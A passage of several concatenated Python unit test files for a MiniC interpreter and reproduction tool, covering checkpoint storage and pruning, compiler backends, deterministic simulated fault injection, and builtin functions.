        for src, dst in function.edges():
            assert 0 <= src < len(function.instrs)
            assert 0 <= dst < len(function.instrs)


def test_exit_has_no_successors():
    module = lower("fn main() { }")
    main = module.function("main")
    assert main.successors(main.exit) == ()


def test_source_lines_recorded():
    module = lower("fn main() {\n}\n")
    assert module.source_lines >= 2
