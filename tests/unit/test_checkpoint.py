"""Unit tests for checkpoint persistence and the supervisor hook."""

import os
import pickle

from repro.checkpoint import (
    CHECKPOINT_SCHEMA_TAG,
    CheckpointStore,
    chaos_cell_key,
    world_key,
)
from repro.core.supervisor import Checkpointer
from repro.vos.world import World


# -- keys ----------------------------------------------------------------------


def test_chaos_cell_keys_distinguish_every_dimension():
    base = chaos_cell_key("gzip", (0, 1), 0.1, 25_000.0, "src")
    assert chaos_cell_key("gzip", (0, 1), 0.1, 25_000.0, "src") == base
    assert chaos_cell_key("bzip2", (0, 1), 0.1, 25_000.0, "src") != base
    assert chaos_cell_key("gzip", (2, 3), 0.1, 25_000.0, "src") != base
    assert chaos_cell_key("gzip", (0, 1), 0.2, 25_000.0, "src") != base
    assert chaos_cell_key("gzip", (0, 1), 0.1, 30_000.0, "src") != base
    # Editing the workload's source orphans its cells.
    assert chaos_cell_key("gzip", (0, 1), 0.1, 25_000.0, "edited") != base


def test_world_keys_distinguish_rungs():
    base = world_key("run", 1, "abandon-slave-t0#0")
    assert world_key("run", 1, "abandon-slave-t0#1") != base
    assert world_key("run", 2, "abandon-slave-t0#0") != base
    assert world_key("other", 1, "abandon-slave-t0#0") != base


# -- store ---------------------------------------------------------------------


def test_store_roundtrip_and_missing(tmp_path):
    store = CheckpointStore(str(tmp_path))
    assert store.load("absent" * 8) is None
    store.save("k" * 8, {"payload": [1, 2]})
    assert store.load("k" * 8) == {"payload": [1, 2]}
    # Entries land under the checkpoint schema's own directory.
    assert os.path.isdir(os.path.join(str(tmp_path), CHECKPOINT_SCHEMA_TAG))


def test_store_loads_are_fresh_objects(tmp_path):
    """No memory layer: resumed chaos rows are merged destructively, so
    two loads of the same key must never alias one object."""
    store = CheckpointStore(str(tmp_path))
    store.save("key" * 4, {"rows": [1]})
    first = store.load("key" * 4)
    second = store.load("key" * 4)
    assert first == second
    assert first is not second
    first["rows"].append(2)
    assert store.load("key" * 4) == {"rows": [1]}


def test_store_load_or_run_skips_builder_when_cached(tmp_path):
    store = CheckpointStore(str(tmp_path))
    calls = []

    def build():
        calls.append(1)
        return {"built": len(calls)}

    assert store.load_or_run("cell" * 4, build) == {"built": 1}
    assert store.load_or_run("cell" * 4, build) == {"built": 1}
    assert len(calls) == 1


def test_store_corrupt_entry_degrades_to_rerun(tmp_path):
    store = CheckpointStore(str(tmp_path))
    store.save("bad" * 4, {"ok": True})
    entry = os.path.join(
        str(tmp_path), CHECKPOINT_SCHEMA_TAG, "bad" * 4 + ".pkl"
    )
    with open(entry, "wb") as handle:
        handle.write(b"garbage")
    assert store.load("bad" * 4) is None
    assert store.stats.disk_errors == 1


def test_store_disabled_is_inert(tmp_path):
    store = CheckpointStore(str(tmp_path), enabled=False)
    store.save("k" * 4, {"x": 1})
    assert store.load("k" * 4) is None
    assert not os.path.exists(os.path.join(str(tmp_path), CHECKPOINT_SCHEMA_TAG))


# -- the supervisor's checkpointer ---------------------------------------------


def _world():
    world = World(seed=2)
    world.fs.add_file("/etc/conf", "x")
    return world


def test_checkpointer_persists_restorable_snapshots(tmp_path):
    store = CheckpointStore(str(tmp_path))
    checkpointer = Checkpointer(store, label="t", seed=2)
    world = _world()
    world.fs.add_file("/scratch", "mid-run")
    key = checkpointer.checkpoint(world, "abandon-slave-t1")
    assert checkpointer.taken == [("abandon-slave-t1#0", key)]
    restored = _world().restore(store.load(key))
    assert restored.fs.read_file("/scratch").content == "mid-run"


def test_checkpointer_ordinals_keep_repeated_rungs_distinct(tmp_path):
    store = CheckpointStore(str(tmp_path))
    checkpointer = Checkpointer(store, label="t", seed=2)
    world = _world()
    first = checkpointer.checkpoint(world, "abandon-slave-t1")
    world.fs.add_file("/second", "2")
    second = checkpointer.checkpoint(world, "abandon-slave-t1")
    assert first != second
    assert store.load(first)["fs_delta"] != store.load(second)["fs_delta"]


def test_checkpointer_swallows_store_failures():
    class Exploding:
        def save(self, key, payload):
            raise OSError("disk on fire")

    checkpointer = Checkpointer(Exploding())
    checkpointer.checkpoint(_world(), "abandon-master-t0")
    assert checkpointer.taken == []


def test_snapshot_payload_is_picklable_without_scripts():
    world = _world()
    world.network.register("srv", 1, lambda req: "r")  # closure: unpicklable
    world.network.connect("srv", 1).send("x")
    pickle.dumps(world.snapshot())  # must not try to pickle the script


# -- garbage collection --------------------------------------------------------


def _aged_store(tmp_path, ages):
    """A store with one entry per (key, age-seconds) pair, mtimes
    pinned relative to now=1000.0."""
    store = CheckpointStore(str(tmp_path))
    for key, age in ages:
        store.save(key, {"k": key})
        entry = store._cache._entry_path(key)
        os.utime(entry, (1000.0 - age, 1000.0 - age))
    return store


def test_prune_ttl_removes_only_expired_entries(tmp_path):
    store = _aged_store(
        tmp_path, [("fresh000", 10.0), ("old00000", 500.0), ("older000", 900.0)]
    )
    summary = store.prune(max_age_seconds=100.0, now=1000.0)
    assert summary["scanned"] == 3
    assert summary["removed"] == 2
    assert summary["kept"] == 1
    assert summary["reclaimed_bytes"] > 0
    assert store.load("fresh000") is not None
    assert store.load("old00000") is None
    assert store.load("older000") is None


def test_prune_max_entries_keeps_the_newest(tmp_path):
    store = _aged_store(
        tmp_path, [("a0000000", 300.0), ("b0000000", 200.0), ("c0000000", 100.0)]
    )
    summary = store.prune(max_entries=2, now=1000.0)
    assert summary["removed"] == 1
    assert summary["kept"] == 2
    assert store.load("a0000000") is None  # oldest evicted
    assert store.load("b0000000") is not None
    assert store.load("c0000000") is not None


def test_prune_sweeps_stale_schemas_and_tmp_but_not_foreign_dirs(tmp_path):
    store = CheckpointStore(str(tmp_path))
    store.save("keep0000", {"x": 1})
    schema_dir = os.path.join(str(tmp_path), CHECKPOINT_SCHEMA_TAG)
    with open(os.path.join(schema_dir, "crashed-writer.tmp"), "wb") as handle:
        handle.write(b"partial")
    stale_dir = os.path.join(str(tmp_path), "ldx-checkpoint-v1")
    os.makedirs(stale_dir)
    with open(os.path.join(stale_dir, "ancient"), "wb") as handle:
        handle.write(b"unloadable forever")
    foreign_dir = os.path.join(str(tmp_path), "user-data")
    os.makedirs(foreign_dir)
    with open(os.path.join(foreign_dir, "precious"), "wb") as handle:
        handle.write(b"not ours")

    summary = store.prune()
    assert summary["removed"] == 2  # the .tmp and the stale entry
    assert not os.path.exists(stale_dir)  # swept whole
    assert os.path.exists(os.path.join(foreign_dir, "precious"))
    assert store.load("keep0000") is not None


def test_prune_missing_dir_is_a_noop(tmp_path):
    from repro.checkpoint import prune_checkpoints

    summary = prune_checkpoints(str(tmp_path / "never-created"), max_entries=1)
    assert summary == {"scanned": 0, "removed": 0, "kept": 0, "reclaimed_bytes": 0}
    assert prune_checkpoints(None)["scanned"] == 0
