"""Unit tests for the threaded-code compiler and backend plumbing."""

import pytest

from repro import cache
from repro.baselines.native import run_native
from repro.errors import InterpreterError
from repro.instrument import instrument_module
from repro.interp.compile import (
    BACKEND_SWITCH,
    BACKEND_THREADED,
    clear_compile_memo,
    compile_module,
    compiled_for_module,
    get_default_backend,
    resolve_backend,
    set_default_backend,
)
from repro.interp.machine import Machine
from repro.interp.resolve import resolve_event_locally
from repro.ir import compile_source
from repro.vos.kernel import Kernel
from repro.vos.world import World

LOOP = """
fn main() {
    var i = 0;
    var total = 0;
    while (i < 20) {
        total = total + i;
        i = i + 1;
    }
    print(total);
    return total;
}
"""


def both_runs(source, world_factory=None, plan=False, seed=0, **kwargs):
    factory = world_factory or World
    module = compile_source(source)
    module_plan = instrument_module(module).plan if plan else None
    switch = run_native(
        module, factory(), plan=module_plan, seed=seed, backend="switch", **kwargs
    )
    threaded = run_native(
        module, factory(), plan=module_plan, seed=seed, backend="threaded", **kwargs
    )
    return switch, threaded


# -- backend resolution --------------------------------------------------------


def test_resolve_backend_none_uses_default():
    assert resolve_backend(None) == get_default_backend()


def test_resolve_backend_rejects_unknown():
    with pytest.raises(ValueError):
        resolve_backend("jit")


def test_set_default_backend_rejects_unknown():
    with pytest.raises(ValueError):
        set_default_backend("bogus")


def test_set_default_backend_round_trips():
    original = get_default_backend()
    try:
        set_default_backend(BACKEND_SWITCH)
        assert get_default_backend() == BACKEND_SWITCH
    finally:
        set_default_backend(original)


# -- compilation ----------------------------------------------------------------


def test_compile_produces_step_per_instruction():
    module = compile_source(LOOP)
    compiled = compile_module(module, fuse=False)
    for function in module.functions.values():
        steps = compiled.steps_for(function.name)
        assert len(steps) == len(function.instrs)
        assert all(callable(step) for step in steps)


def test_fusion_finds_superinstructions():
    module = compile_source(LOOP)
    fused = compile_module(module, fuse=True)
    unfused = compile_module(module, fuse=False)
    assert unfused.fused_count == 0
    # The loop body has const->binop and binop->cjump chains to fuse.
    assert fused.fused_count > 0


def test_fusion_does_not_change_results():
    switch, threaded = both_runs(LOOP)
    assert switch.stdout == threaded.stdout == "190"
    assert switch.time == threaded.time
    assert switch.stats.instructions == threaded.stats.instructions


def test_compile_memo_reuses_compilations():
    module = compile_source(LOOP)
    first = compiled_for_module(module, None, fuse=True)
    second = compiled_for_module(module, None, fuse=True)
    assert first is second
    other = compiled_for_module(module, None, fuse=False)
    assert other is not first
    clear_compile_memo()
    third = compiled_for_module(module, None, fuse=True)
    assert third is not first


def test_compiled_for_cache_content_addresses():
    compiled = cache.compiled_for(LOOP)
    again = cache.compiled_for(LOOP)
    assert compiled is again
    unfused = cache.compiled_for(LOOP, fuse=False)
    assert unfused is not compiled
    assert compiled.fused_count > 0
    assert unfused.fused_count == 0


def test_compiled_cache_is_memory_only():
    # Closures never round-trip pickle; configure() must keep the
    # compiled layer off disk even when a cache_dir is given.
    cache.configure(cache_dir="/tmp/ldx-test-should-not-be-used")
    try:
        assert cache.get_compiled_cache().cache_dir is None
    finally:
        cache.configure()


# -- identity of observable behaviour -------------------------------------------


def test_backends_agree_on_global_reads_and_writes():
    source = """
    var g = 10;
    fn bump() { g = g + 1; return g; }
    fn main() {
        var local = 99;
        print(bump());
        print(local);
        print(bump());
        print(g);
    }
    """
    switch, threaded = both_runs(source)
    assert switch.stdout == threaded.stdout == "11991212"
    assert switch.time == threaded.time


def test_backends_agree_under_instrumentation():
    switch, threaded = both_runs(LOOP, plan=True)
    assert switch.stdout == threaded.stdout
    assert switch.time == threaded.time
    assert switch.stats.edge_actions == threaded.stats.edge_actions > 0


def test_backends_agree_on_error_surface():
    source = "fn main() { print(1 / 0); }"
    module = compile_source(source)
    errors = []
    for backend in ("switch", "threaded"):
        with pytest.raises(InterpreterError) as exc_info:
            run_native(module, World(), backend=backend)
        errors.append(str(exc_info.value))
    assert errors[0] == errors[1]


def test_backends_agree_on_budget_exhaustion():
    source = "fn main() { while (1) { } }"
    module = compile_source(source)
    errors = []
    for backend in ("switch", "threaded"):
        with pytest.raises(InterpreterError) as exc_info:
            run_native(module, World(), backend=backend, max_instructions=500)
        errors.append(str(exc_info.value))
    assert errors[0] == errors[1]
    assert "instruction budget exceeded" in errors[0]


def test_instr_hook_forces_switch_loop():
    module = compile_source(LOOP)
    machine = Machine(module, Kernel(World()), backend="threaded")
    seen = []
    machine.instr_hook = lambda thread, frame, instr: seen.append(instr.opname)
    while True:
        event = machine.next_event()
        if event is None:
            break
        resolve_event_locally(machine, event)
    assert machine.finished
    # The hook observed every instruction despite the threaded backend.
    assert len(seen) == machine.stats.instructions


# -- profiling ------------------------------------------------------------------


def test_profile_disabled_records_nothing():
    switch, threaded = both_runs(LOOP)
    for result in (switch, threaded):
        assert not result.stats.profiled
        assert result.stats.opcode_counts is None


def test_profile_enabled_counts_match_instructions():
    for backend in ("switch", "threaded"):
        module = compile_source(LOOP)
        result = run_native(module, World(), backend=backend, profile=True)
        stats = result.stats
        assert stats.profiled
        assert sum(stats.opcode_counts.values()) == stats.instructions
        assert set(stats.opcode_time) <= set(stats.opcode_counts)


def test_profile_histograms_identical_across_backends():
    module = compile_source(LOOP)
    switch = run_native(module, World(), backend="switch", profile=True)
    threaded = run_native(module, World(), backend="threaded", profile=True)
    assert dict(switch.stats.opcode_counts) == dict(threaded.stats.opcode_counts)
    assert dict(switch.stats.opcode_time) == dict(threaded.stats.opcode_time)
    assert switch.time == threaded.time


# -- region cap env overrides ---------------------------------------------------


def test_region_caps_default_without_env(monkeypatch):
    from repro.interp import compile as compile_mod

    monkeypatch.delenv("REPRO_REGION_CAP", raising=False)
    assert compile_mod._cap_from_env("REPRO_REGION_CAP", 320) == (320, None)


def test_region_caps_read_from_env(monkeypatch):
    from repro.interp import compile as compile_mod

    monkeypatch.setenv("REPRO_REGION_CAP", "64")
    assert compile_mod._cap_from_env("REPRO_REGION_CAP", 320) == (64, None)


@pytest.mark.parametrize("bad", ["0", "-3", "ten", "1.5", ""])
def test_region_caps_reject_invalid_env(monkeypatch, bad):
    from repro.errors import ReproError
    from repro.interp import compile as compile_mod

    monkeypatch.setenv("REPRO_REGION_PATH_CAP", bad)
    value, error = compile_mod._cap_from_env("REPRO_REGION_PATH_CAP", 80)
    assert value == 80  # invalid override keeps the default
    assert isinstance(error, ReproError)
    assert "REPRO_REGION_PATH_CAP" in str(error)


def test_invalid_region_cap_raises_at_first_compile(monkeypatch):
    # The deferred error surfaces as a ReproError from compiled_for_module
    # (which the CLI turns into a one-line diagnosis), never as an
    # import-time traceback.
    from repro.errors import ReproError
    from repro.interp import compile as compile_mod

    bad = ReproError("REPRO_REGION_CAP must be a positive integer, got 'x'")
    monkeypatch.setattr(compile_mod, "_REGION_CAP_ERROR", bad)
    module = compile_source(LOOP)
    with pytest.raises(ReproError, match="REPRO_REGION_CAP"):
        compile_mod.compiled_for_module(module)


def test_small_region_caps_stay_byte_identical(monkeypatch):
    # Any cap setting is byte-safe: a tiny region budget only shrinks
    # how much code fuses, never what the program observes.
    from repro.interp import compile as compile_mod

    module = compile_source(LOOP)
    baseline = run_native(compile_source(LOOP), World(), backend="threaded")
    monkeypatch.setattr(compile_mod, "REGION_CAP", 2)
    monkeypatch.setattr(compile_mod, "REGION_PATH_CAP", 4)
    monkeypatch.setattr(compile_mod, "REGION_BOUND", 6)
    clear_compile_memo()
    try:
        capped = run_native(module, World(), backend="threaded")
    finally:
        clear_compile_memo()
    assert capped.stdout == baseline.stdout
    assert capped.time == baseline.time
    assert capped.stats.instructions == baseline.stats.instructions
