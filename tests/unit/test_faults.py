"""Unit tests for the fault-injection layer (repro.vos.faults)."""

import pytest

from repro.errors import (
    DegradedResult,
    EngineStallError,
    FaultInjected,
    ReproError,
    SyscallError,
)
from repro.vos.faults import (
    FAULT_CLASS,
    LOCK_DELAY,
    SHORT_READ,
    TRANSIENT,
    Fault,
    FaultConfig,
    FaultPlan,
)
from repro.vos.kernel import Kernel
from repro.vos.world import World


def drive(plan, calls=200):
    """Feed a fixed syscall stream through a plan; return its decisions."""
    stream = [
        ("read", (3, 64)),
        ("write", (4, "data")),
        ("send", (5, "x")),
        ("recv", (5, 16)),
        ("connect", (5, "host", 80)),
        ("mutex_lock", (0,)),
        ("read_line", (3,)),
        ("open", ("/f", "r")),  # ineligible: never faulted
    ]
    decisions = []
    for index in range(calls):
        name, args = stream[index % len(stream)]
        fault = plan.decide(name, args)
        decisions.append(None if fault is None else (fault.syscall, fault.errno, fault.failures))
    return decisions


# -- configuration validation -------------------------------------------------


def test_rate_bounds_validated():
    with pytest.raises(ValueError):
        FaultConfig(rate=-0.1)
    with pytest.raises(ValueError):
        FaultConfig(rate=1.5)


def test_class_rates_validated():
    with pytest.raises(ValueError):
        FaultConfig(class_rates={"bogus": 0.5})
    with pytest.raises(ValueError):
        FaultConfig(class_rates={"read": 2.0})
    FaultConfig(class_rates={"read": 0.5, "net": 0.0})  # valid


def test_burst_and_retry_validated():
    with pytest.raises(ValueError):
        FaultConfig(burst_max=0)
    with pytest.raises(ValueError):
        FaultConfig(max_retries=-1)


def test_masks_all_faults():
    assert FaultConfig().masks_all_faults  # burst_max=2 < max_retries=4
    assert not FaultConfig(burst_max=3, max_retries=2).masks_all_faults
    assert FaultConfig(burst_max=3, max_retries=3).masks_all_faults


# -- determinism --------------------------------------------------------------


def test_same_seed_same_schedule():
    a = drive(FaultConfig(seed=7, rate=0.3).plan_for("master"))
    b = drive(FaultConfig(seed=7, rate=0.3).plan_for("master"))
    assert a == b
    assert any(d is not None for d in a)


def test_different_seeds_differ():
    a = drive(FaultConfig(seed=1, rate=0.3).plan_for("master"))
    b = drive(FaultConfig(seed=2, rate=0.3).plan_for("master"))
    assert a != b


def test_roles_draw_independent_schedules():
    config = FaultConfig(seed=9, rate=0.3)
    assert drive(config.plan_for("master")) != drive(config.plan_for("slave"))


def test_zero_rate_never_faults():
    plan = FaultConfig(seed=3, rate=0.0).plan_for("master")
    assert all(d is None for d in drive(plan))
    assert plan.injected == 0
    assert plan.decisions == 0


# -- fault shapes -------------------------------------------------------------


def test_burst_bounded():
    config = FaultConfig(seed=11, rate=1.0, burst_max=3)
    plan = config.plan_for("master")
    decisions = [d for d in drive(plan, 400) if d is not None]
    assert decisions
    assert all(1 <= failures <= 3 for _, _, failures in decisions)


def test_class_rate_override_silences_class():
    config = FaultConfig(seed=5, rate=1.0, class_rates={"net": 0.0})
    plan = config.plan_for("master")
    for _ in range(50):
        assert plan.decide("send", (5, "x")) is None
        assert plan.decide("connect", (5, "h", 80)) is None
        assert plan.decide("write", (4, "x")) is not None


def test_errnos_match_syscall_class():
    plan = FaultConfig(seed=2, rate=1.0).plan_for("master")
    expected = {
        "read": {"EINTR", "ESHORT"},
        "read_line": {"EINTR"},
        "write": {"ENOSPC", "EINTR"},
        "send": {"ECONNRESET"},
        "recv": {"ECONNRESET", "ESHORT"},
        "connect": {"ECONNREFUSED"},
        "mutex_lock": {"ETIMEDOUT"},
    }
    seen = {}
    for name in FAULT_CLASS:
        args = {"read": (3, 64), "recv": (5, 16)}.get(name, (3, "x", 0))
        for _ in range(40):
            fault = plan.decide(name, args)
            assert fault is not None
            seen.setdefault(name, set()).add(fault.errno)
    for name, errnos in seen.items():
        assert errnos <= expected[name], name


def test_short_read_requires_room_to_truncate():
    plan = FaultConfig(seed=4, rate=1.0).plan_for("master")
    for _ in range(60):
        fault = plan.decide("read", (3, 1))  # count 1 cannot shorten
        assert fault.kind == TRANSIENT


def test_ineligible_syscalls_never_roll():
    plan = FaultConfig(seed=6, rate=1.0).plan_for("master")
    for name in ("open", "close", "stat", "exit", "print", "mutex_unlock"):
        assert plan.decide(name, ()) is None
    assert plan.decisions == 0


# -- plan bookkeeping ---------------------------------------------------------


def test_plan_records_injections_and_kind_counters():
    plan = FaultConfig(seed=8, rate=1.0).plan_for("master")
    kinds = []
    for _ in range(30):
        kinds.append(plan.decide("read", (3, 64)).kind)
        kinds.append(plan.decide("mutex_lock", (0,)).kind)
    assert plan.injected == 60
    assert plan.short_reads == kinds.count(SHORT_READ)
    assert plan.lock_delays == kinds.count(LOCK_DELAY)
    plan.note_retries(5)
    plan.note_exhausted("read")
    assert plan.retries == 5
    assert plan.exhausted == ["read"]


def test_last_injection_resets_per_decision():
    plan = FaultConfig(seed=8, rate=1.0).plan_for("master")
    plan.decide("read", (3, 64))
    assert plan.last_injection is not None
    plan.decide("open", ("/f", "r"))
    assert plan.last_injection is None


# -- kernel integration -------------------------------------------------------


def make_kernel(plan=None):
    world = World(seed=1)
    world.fs.add_file("/data/f", "0123456789")
    return Kernel(world, faults=plan)


def test_kernel_raises_fault_injected_before_side_effects():
    plan = FaultConfig(seed=1, rate=1.0, class_rates={"read": 0.0}).plan_for("m")
    kernel = make_kernel(plan)
    fd = kernel.execute("open", ("/data/f", "a"))
    with pytest.raises(FaultInjected) as excinfo:
        kernel.execute("write", (fd, "x"))
    assert isinstance(excinfo.value, SyscallError)
    assert excinfo.value.fault.syscall == "write"
    # The fault fired *before* the handler: nothing was written.
    assert kernel.world.fs.file("/data/f").content == "0123456789"


def test_kernel_short_read_truncates_count():
    config = FaultConfig(seed=1, rate=1.0)
    plan = config.plan_for("m")
    kernel = make_kernel(plan)
    fd = kernel.execute("open", ("/data/f", "r"))
    data = None
    for _ in range(20):  # roll until the coin lands on short-read
        kernel.execute("seek", (fd, 0), inject=False)
        try:
            data = kernel.execute("read", (fd, 8))
        except FaultInjected:
            continue
        break
    assert data == "0123"  # count halved: 8 -> 4
    assert plan.last_injection.kind == SHORT_READ


def test_kernel_inject_false_bypasses_plan():
    plan = FaultConfig(seed=1, rate=1.0).plan_for("m")
    kernel = make_kernel(plan)
    fd = kernel.execute("open", ("/data/f", "r"), inject=False)
    assert kernel.execute("read", (fd, 8), inject=False) == "01234567"
    assert plan.injected == 0


def test_kernel_without_plan_unchanged():
    kernel = make_kernel(None)
    assert kernel.faults is None
    fd = kernel.execute("open", ("/data/f", "r"))
    assert kernel.execute("read", (fd, 8)) == "01234567"


# -- new exception types ------------------------------------------------------


def test_exception_hierarchy():
    fault = Fault(TRANSIENT, "EINTR", "read", 2, None)
    injected = FaultInjected(fault)
    assert injected.fault is fault
    assert injected.errno == "EINTR"
    assert isinstance(injected, ReproError)
    assert isinstance(EngineStallError("stuck"), ReproError)
    assert isinstance(DegradedResult("degraded"), ReproError)
