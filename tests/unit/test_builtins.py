"""Unit tests for the pure MiniC builtins."""

import pytest

from repro.errors import InterpreterError
from repro.interp.builtins import BUILTINS, call_builtin
from repro.lang.intrinsics import PURE_BUILTINS


def test_registry_covers_every_pure_builtin():
    assert set(BUILTINS) == set(PURE_BUILTINS)


def test_len():
    assert call_builtin("len", ["abc"]) == 3
    assert call_builtin("len", [[1, 2]]) == 2
    with pytest.raises(InterpreterError):
        call_builtin("len", [5])


def test_min_max_abs():
    assert call_builtin("min", [3, 7]) == 3
    assert call_builtin("max", [3, 7]) == 7
    assert call_builtin("abs", [-4]) == 4


def test_hash32_deterministic_and_bounded():
    a = call_builtin("hash32", ["payload"])
    b = call_builtin("hash32", ["payload"])
    assert a == b
    assert 0 <= a < 2**31
    assert call_builtin("hash32", ["other"]) != a


def test_to_str_and_parse_int():
    assert call_builtin("to_str", [12]) == "12"
    assert call_builtin("to_str", [None]) == "nil"
    assert call_builtin("parse_int", ["  42 "]) == 42
    assert call_builtin("parse_int", ["-7"]) == -7
    assert call_builtin("parse_int", ["x7"]) is None
    assert call_builtin("parse_int", [""]) is None
    assert call_builtin("parse_int", [9]) == 9


def test_ord_chr_roundtrip():
    assert call_builtin("chr", [call_builtin("ord", ["Q"])]) == "Q"
    with pytest.raises(InterpreterError):
        call_builtin("ord", ["ab"])
    with pytest.raises(InterpreterError):
        call_builtin("chr", [-1])


def test_substr_clamps():
    assert call_builtin("substr", ["hello", 1, 3]) == "el"
    assert call_builtin("substr", ["hello", 3, 100]) == "lo"
    assert call_builtin("substr", ["hello", -5, 2]) == "he"
    assert call_builtin("substr", ["hello", 4, 2]) == ""


def test_string_helpers():
    assert call_builtin("str_find", ["banana", "na"]) == 2
    assert call_builtin("str_find", ["banana", "zz"]) == -1
    assert call_builtin("str_split", ["a,b,,c", ","]) == ["a", "b", "", "c"]
    assert call_builtin("str_split", ["abc", ""]) == ["a", "b", "c"]
    assert call_builtin("str_join", [[1, "b"], "-"]) == "1-b"
    assert call_builtin("str_upper", ["aB"]) == "AB"
    assert call_builtin("str_lower", ["aB"]) == "ab"
    assert call_builtin("str_replace", ["aaa", "a", "b"]) == "bbb"
    assert call_builtin("str_repeat", ["ab", 3]) == "ababab"
    assert call_builtin("starts_with", ["abcdef", "abc"]) is True
    assert call_builtin("ends_with", ["abcdef", "def"]) is True
    assert call_builtin("str_strip", ["  x \n"]) == "x"


def test_str_repeat_negative_raises():
    with pytest.raises(InterpreterError):
        call_builtin("str_repeat", ["a", -1])


def test_list_helpers():
    items = [3, 1]
    assert call_builtin("push", [items, 2]) is items
    assert items == [3, 1, 2]
    assert call_builtin("pop", [items]) == 2
    assert call_builtin("list_new", [3, 0]) == [0, 0, 0]
    filled = call_builtin("list_fill", [[1, 2], 9])
    assert filled == [9, 9]
    assert call_builtin("sort", [[3, 1, 2]]) == [1, 2, 3]
    assert call_builtin("contains", [[1, 2], 2]) is True
    assert call_builtin("contains", ["haystack", "hay"]) is True
    assert call_builtin("index_of", [[5, 6], 6]) == 1
    assert call_builtin("index_of", [[5, 6], 7]) == -1
    assert call_builtin("slice", [[1, 2, 3, 4], 1, 3]) == [2, 3]
    assert call_builtin("concat", [[1], [2]]) == [1, 2]
    assert call_builtin("reverse", [[1, 2]]) == [2, 1]
    assert call_builtin("reverse", ["ab"]) == "ba"


def test_pop_empty_raises():
    with pytest.raises(InterpreterError):
        call_builtin("pop", [[]])


def test_sort_mixed_types_raises():
    with pytest.raises(InterpreterError):
        call_builtin("sort", [[1, "a"]])


def test_i32_wraparound():
    assert call_builtin("i32_add", [2**31 - 1, 1]) == -(2**31)
    assert call_builtin("i32_mul", [2**16, 2**16]) == 0
    assert call_builtin("i32_sub", [-(2**31), 1]) == 2**31 - 1


def test_type_predicates():
    assert call_builtin("is_nil", [None]) is True
    assert call_builtin("is_str", ["x"]) is True
    assert call_builtin("is_int", [3]) is True
    assert call_builtin("is_int", [True]) is False
    assert call_builtin("is_list", [[]]) is True
    assert call_builtin("type_of", [None]) == "nil"
    assert call_builtin("type_of", [True]) == "bool"
    assert call_builtin("type_of", ["s"]) == "str"


def test_arity_checked():
    with pytest.raises(InterpreterError):
        call_builtin("len", ["a", "b"])
    with pytest.raises(InterpreterError):
        call_builtin("min", [1])


def test_unknown_builtin_raises():
    with pytest.raises(InterpreterError):
        call_builtin("no_such_builtin", [])
