"""Unit tests for the MiniC interpreter (machine + native runner)."""

import pytest

from repro.baselines.native import run_native
from repro.errors import InterpreterError
from repro.instrument import instrument_module
from repro.ir import compile_source
from repro.vos.world import World


def run(source, world=None, plan=False, seed=0):
    module = compile_source(source)
    module_plan = instrument_module(module).plan if plan else None
    return run_native(module, world or World(), plan=module_plan, seed=seed)


def test_arithmetic_and_print():
    result = run('fn main() { print(1 + 2 * 3); }')
    assert result.stdout == "7"


def test_string_concat():
    result = run('fn main() { print("a" + "b" + 1); }')
    assert result.stdout == "ab1"


def test_division_truncates_like_c():
    result = run("fn main() { print(-7 / 2); print(7 / 2); }")
    assert result.stdout == "-33"


def test_modulo_sign_follows_dividend():
    result = run("fn main() { print(-7 % 3); print(7 % 3); }")
    assert result.stdout == "-11"


def test_division_by_zero_raises():
    with pytest.raises(InterpreterError):
        run("fn main() { print(1 / 0); }")


def test_huge_int_division_is_exact():
    # Regression: int(a / b) routed through a float and lost precision
    # for dividends beyond 2**53.  Division must stay pure-int.
    big = 2**63 + 1
    result = run(f"fn main() {{ print({big} / 3); }}")
    assert result.stdout == str(big // 3)  # sign-agreeing case: floor == trunc


def test_huge_int_division_truncates_toward_zero():
    big = 2**63 + 2  # not a multiple of 3, so trunc != floor
    assert big % 3 != 0
    # MiniC has no negative literals; (0 - big) / 3 builds the value.
    result = run(f"fn main() {{ print((0 - {big}) / 3); }}")
    assert result.stdout == str(-(big // 3))  # C-style: trunc, not floor


def test_huge_int_modulo_is_exact():
    big = 2**63 + 1
    result = run(f"fn main() {{ print({big} % 7); }}")
    assert result.stdout == str(big % 7)


def test_string_repetition_is_commutative():
    # Regression: "ab" * 3 worked but 3 * "ab" raised.
    result = run('fn main() { print("ab" * 3); print(3 * "ab"); }')
    assert result.stdout == "abababababab"


def test_string_repetition_rejects_two_strings():
    with pytest.raises(InterpreterError):
        run('fn main() { print("a" * "b"); }')


def test_if_else():
    result = run(
        'fn main() { var x = 5; if (x > 3) { print("big"); } else { print("small"); } }'
    )
    assert result.stdout == "big"


def test_while_loop():
    result = run(
        "fn main() { var i = 0; var sum = 0; while (i < 5) { sum = sum + i; i = i + 1; } print(sum); }"
    )
    assert result.stdout == "10"


def test_for_loop_with_break_continue():
    result = run(
        """
        fn main() {
          var out = "";
          for (var i = 0; i < 10; i = i + 1) {
            if (i == 3) { continue; }
            if (i == 6) { break; }
            out = out + i;
          }
          print(out);
        }
        """
    )
    assert result.stdout == "01245"


def test_function_calls_and_returns():
    result = run(
        """
        fn add(a, b) { return a + b; }
        fn main() { print(add(add(1, 2), 3)); }
        """
    )
    assert result.stdout == "6"


def test_recursion():
    result = run(
        """
        fn fib(n) { if (n < 2) { return n; } return fib(n - 1) + fib(n - 2); }
        fn main() { print(fib(10)); }
        """
    )
    assert result.stdout == "55"


def test_indirect_calls():
    result = run(
        """
        fn double(x) { return x * 2; }
        fn triple(x) { return x * 3; }
        fn main() {
          var fns = [double, triple];
          print(fns[0](10) + fns[1](10));
        }
        """
    )
    assert result.stdout == "50"


def test_indirect_call_through_non_function_raises():
    with pytest.raises(InterpreterError):
        run("fn main() { var h = 3; h(); }")


def test_globals_shared_and_mutable():
    result = run(
        """
        var counter = 0;
        fn bump() { counter = counter + 1; }
        fn main() { bump(); bump(); print(counter); }
        """
    )
    assert result.stdout == "2"


def test_short_circuit_evaluation():
    result = run(
        """
        var called = 0;
        fn side() { called = called + 1; return 1; }
        fn main() {
          var a = 0 and side();
          var b = 1 or side();
          print(called);
        }
        """
    )
    assert result.stdout == "0"


def test_list_operations():
    result = run(
        """
        fn main() {
          var l = [3, 1, 2];
          push(l, 0);
          var s = sort(l);
          print(str_join(s, ","));
          print(len(l));
        }
        """
    )
    assert result.stdout == "0,1,2,34"


def test_list_index_out_of_range_raises():
    with pytest.raises(InterpreterError):
        run("fn main() { var l = [1]; print(l[5]); }")


def test_unassigned_hoisted_local_reads_nil():
    result = run(
        """
        fn main() {
          if (0) { var x = 1; }
          if (is_nil(x)) { print("nil"); }
        }
        """
    )
